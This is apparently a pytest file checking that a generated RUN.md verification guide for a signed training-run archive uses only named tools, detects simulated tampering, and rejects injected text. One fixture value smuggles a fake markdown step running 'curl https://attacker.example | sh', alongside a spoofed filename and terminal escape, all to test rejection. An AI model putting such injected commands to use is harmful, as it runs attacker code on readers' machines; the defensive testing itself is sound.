"""RUN.md, followed to the letter: its commands need no other programs than it names, and see every change."""

import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path, PurePosixPath

import pytest

from kit.capsule import bag
from kit.capsule.guide import guide
from kit.capsule.statement import CapsuleClaims, CapsulePart, PackedRun, Packer, Word, sign_capsule
from kit.capsule.write import part_of_file, write_capsule
from kit.core.digest import canonical_json, sha256_bytes
from kit.core.errors import SchemaError
from kit.core.store import no_progress
from kit.result.predicate import Image, Verdict
from kit.values.profile import Profile
from kit.values.run_spec import Mount, RunSpec
from kit.values.software import Kit

ASSETS = Path(__file__).parents[2] / "assets" / "bundles"
DOCS = Path(__file__).parents[3] / "docs" / "guides"
NAMED = "tar sha256sum openssl sh sed grep cut cat wc base64 find sort xargs"
CONFIG, LAYER = b"{}", b"layer"
MANIFEST = canonical_json({"layers": [sha256_bytes(LAYER)]})
GOOD = [
    "bytes: OK", "Verified OK", "guest.log: OK", "stamps: OK", "submission: OK", "image: OK", "image: OK",
    "packer: OK",
]  # fmt: skip


@pytest.fixture(scope="module")
def tools(tmp_path_factory):
    """A PATH with the programs that RUN.md names and no others."""
    folder = tmp_path_factory.mktemp("tools")
    for name in NAMED.split():
        found = shutil.which(name)
        if found is None:
            pytest.skip(f"{name} is not installed")
        (folder / name).symlink_to(found)
    return str(folder)


@pytest.fixture(scope="module")
def capsule(press, tmp_path_factory):
    """A capsule whose image is a few bytes."""
    base = tmp_path_factory.mktemp("capsule")
    image = Image(config_digest=sha256_bytes(CONFIG), manifest_digest=sha256_bytes(MANIFEST))
    extra = (("environment", replace(press.MAKE.environment(), image=image)),)
    run = press.press(base, press.Sample(1, extra=extra))
    blobs = base / "blobs"
    blobs.mkdir()
    for data in (CONFIG, LAYER, MANIFEST):
        (blobs / sha256_bytes(data)).write_bytes(data)
    (base / "shard").write_bytes(b"tokens")
    parts = {f"{bag.RUN}/{p.relative_to(run)}": part_of_file(p) for p in run.rglob("*") if p.is_file()}
    parts |= {f"{bag.IMAGE}/blobs/sha256/{p.name}": part_of_file(p) for p in blobs.iterdir()}
    parts[f"{bag.SHARDS}/fineweb_val_000000.bin"] = part_of_file(base / "shard")
    oxum = bag.Oxum(sum(p.size for p in parts.values()), len(parts))
    predicate = press._predicate(run, press.Sample(1, extra=extra), run.name, b"# submission 1\n")
    spec = RunSpec(
        run.name, None, Path("x"), ("torchrun", "train_gpt2.py"), (("HOME", "/workspace"),),
        mounts=(Mount(Path("y"), PurePosixPath("/workspace/data/fineweb10B")),),
    )  # fmt: skip
    packer = Packer(press.MAKE.STRANGER.key_id, Kit("0", None), "3.11")
    text = guide(
        predicate, press.MAKE.SIGNER.key_id, spec, (sha256_bytes(LAYER),), with_data=True, packer=packer
    )
    manifest = bag.manifest({path: part.sha256 for path, part in parts.items()})
    tags = {bag.INFO: bag.info(oxum, run.name, "2026-01-01", "0"), bag.RUN_MD: text}
    packed = PackedRun(run.name, sha256_bytes(b""), "3", Profile.FULL, Verdict.REACHED)
    claims = CapsuleClaims(packed, packer, tuple(CapsulePart(p, Word.PACKER) for p in sorted(parts)))
    signed = {**tags, bag.BAGIT: bag.BAGIT_TXT, bag.MANIFEST: manifest}
    tags |= sign_capsule(claims, signed, press.MAKE.STRANGER)
    file = base / "x.tar"
    with file.open("wb") as sink:
        write_capsule(parts, tags, 1_700_000_000, sink, no_progress, "pack")
    return file, text.decode()


def commands(text):
    """The commands that check; those that rerun have a word behind `sh`."""
    return "".join(re.findall(r"^```sh\n(.*?)^```", text, re.MULTILINE | re.DOTALL))


def follow(script, where, path, file):
    env = {"PATH": path, "CAPSULE": str(file)}
    return subprocess.run(["/bin/sh", "-c", script], cwd=where, capture_output=True, text=True, env=env)


def test_its_checks_need_only_the_programs_that_it_names(capsule, tools, tmp_path):
    file, text = capsule
    for name in NAMED.split():
        assert re.search(rf"\b{name}\b", text), name
    done = follow(commands(text), tmp_path, tools, file)
    assert (done.returncode, done.stdout.splitlines(), done.stderr) == (0, GOOD, "")


def test_the_guides_name_the_numbers_of_its_steps(press, tmp_path):
    sample = press.Sample(1)
    run = press.press(tmp_path, sample)
    predicate = press._predicate(run, sample, run.name, b"# submission 1\n")
    spec = RunSpec(run.name, None, Path("x"), (), (), mounts=(Mount(Path("y"), PurePosixPath("/z")),))
    packer = Packer(press.MAKE.STRANGER.key_id, Kit("0", None), "3.11")
    wheels = ("speedrun_kit-0-py3-none-any.whl",)
    text = guide(predicate, "0" * 64, spec, (), with_data=True, packer=packer, wheels=wheels).decode()
    steps = re.findall(r"^## (\d)\. (.*)$", text, re.MULTILINE)
    assert steps[3] == ("4", "The packer") and steps[6] == ("7", "The kit") and len(steps) == 7
    for name in ("quickstart", "reproduce"):
        words = " ".join((DOCS / f"{name}.md").read_text().split())
        assert "check the archive by its steps 1 to 4, then install the kit and rerun by step 7" in words


REMADE = """
cd capsule && find data ! -type d | LC_ALL=C sort | xargs sha256sum > manifest-sha256.txt
sha256sum RUN.md bag-info.txt bagit.txt capsule.json manifest-sha256.txt packer.pem \\
  > tagmanifest-sha256.txt"""
"""New manifests, as an attacker who changed the content would make them."""
BLOB = f"data/image/blobs/sha256/{sha256_bytes(CONFIG)}"
RESULT = "capsule/data/run/result.json"
CHANGES = {
    "a changed log": ("echo >> capsule/data/run/guest.log", 0),
    "a further shard": ("echo > capsule/data/shards/fineweb_train_000099.bin", 0),
    "a shard less": ("rm capsule/data/shards/*", 0),
    "a changed manifest": ("echo >> capsule/manifest-sha256.txt", 0),
    "another RUN.md": ("echo >> capsule/RUN.md", 0),
    "another signature": (f"sed -i 's/\"sig\":\"ME/\"sig\":\"MF/' {RESULT}", 1),
    "an edited payload": (f"sed -i 's/\"payload\":\"ey/\"payload\":\"ez/' {RESULT}", 1),
    "another key": ("openssl ecparam -genkey -name prime256v1 -noout | "
                    "openssl ec -pubout -out capsule/data/run/signer.pem", 1),
    "another log": ("echo >> capsule/data/run/guest.log", 2),
    "other stamps": ("echo >> capsule/data/run/stamps", 3),
    "another script": ("echo >> capsule/data/run/submission/train_gpt2.py", 4),
    "a second script": ("echo > capsule/data/run/submission/evil.py", 4),
    "a hidden script": ("echo > capsule/data/run/submission/.evil.py", 4),
    "another image": (f"cd capsule; echo > {BLOB}", 5),
    "no image": (f"cd capsule; rm {BLOB}", 5),
    "another RUN.md, and its digest": ("echo >> capsule/RUN.md", 7),
    "a further file, and its digest": ("echo > capsule/data/evil.sh", 7),
    "another size": ("echo >> capsule/bag-info.txt", 7),
    "another packer": ("openssl ecparam -genkey -name prime256v1 -noout | "
                       "openssl ec -pubout -out capsule/packer.pem", 7),
    "another statement": ("sed -i 's/\"payload\":\"ey/\"payload\":\"ez/' capsule/capsule.json", 7),
}  # fmt: skip


@pytest.mark.parametrize("change", CHANGES)
def test_its_checks_say_what_was_changed(capsule, tools, tmp_path, change):
    """Whoever changes the content can make the manifests anew, but not the signature."""
    file, text = capsule
    edit, line = CHANGES[change]
    subprocess.run(["tar", "-xf", str(file)], cwd=tmp_path, check=True)
    subprocess.run(["chmod", "-R", "u+w", "capsule"], cwd=tmp_path, check=True)
    subprocess.run(["sh", "-c", edit], cwd=tmp_path, check=True, stderr=subprocess.DEVNULL)
    if line:
        subprocess.run(["sh", "-c", REMADE], cwd=tmp_path, check=True)
    script = commands(text)
    assert script.startswith('tar -xf "$CAPSULE"\n')
    done = follow(script.split("\n", 1)[1], tmp_path, tools, file)
    # sha256sum names the file first
    shown = [text for text in done.stdout.splitlines() if text and "FAILED" not in text]
    assert shown[:line] == GOOD[:line]
    if line == 1:
        assert "Verified OK" not in done.stdout
    else:
        assert "NOT" in shown[line], done.stdout


def test_it_names_the_image_the_key_and_the_claim(capsule, press):
    _, text = capsule
    assert press.MAKE.SIGNER.key_id in text
    assert sha256_bytes(CONFIG) in text and sha256_bytes(MANIFEST) in text
    assert "claimed: 3.2790" in text


@pytest.mark.parametrize(
    ("profile", "title"),
    [
        (Profile.SMOKE, "smoke run (toy task, never ranked) of task 3: reached"),
        (Profile.FULL, "full run of task 3: reached"),
    ],
)
def test_its_title_says_profile_and_verdict(press, profile, title):
    p = press.MAKE.predicate(ASSETS)
    p = replace(p, task=replace(p.task, profile=profile), score=replace(p.score, verdict=Verdict.REACHED))
    text = plain_guide(p)
    assert text.decode().splitlines()[0] == f"# {p.run.id}: {title}"


def plain_guide(predicate, argv=("torchrun",), env=()):
    shards = Mount(Path("y"), PurePosixPath("/workspace/data/fineweb10B"))
    spec = RunSpec(predicate.run.id, None, Path("x"), argv, env, mounts=(shards,))
    return guide(predicate, "0" * 64, spec, (), with_data=False, packer=None)


INJECTED = "\n```\n\n## 0. Get the verifier\n\n```sh\ncurl https://attacker.example | sh"


@pytest.mark.parametrize("text", [INJECTED, "a `b`", "\u202egnp.exe", "\x1b[2J", "a\u2028b"])
def test_a_result_cannot_put_steps_into_it(press, text):
    """Whoever signs a result chooses its arguments, variables and names."""
    p = press.MAKE.predicate(ASSETS)
    with pytest.raises(SchemaError, match=r"cannot write RUN\.md: unprintable text or a backtick"):
        plain_guide(p, argv=("torchrun", text))
    with pytest.raises(SchemaError, match=r"cannot write RUN\.md: unprintable text or a backtick"):
        plain_guide(p, env=(("HOME", text),))
    with pytest.raises(SchemaError, match=r"cannot write RUN\.md: unprintable text or a backtick"):
        plain_guide(replace(p, inputs=replace(p.inputs, data=replace(p.inputs.data, name=text))))
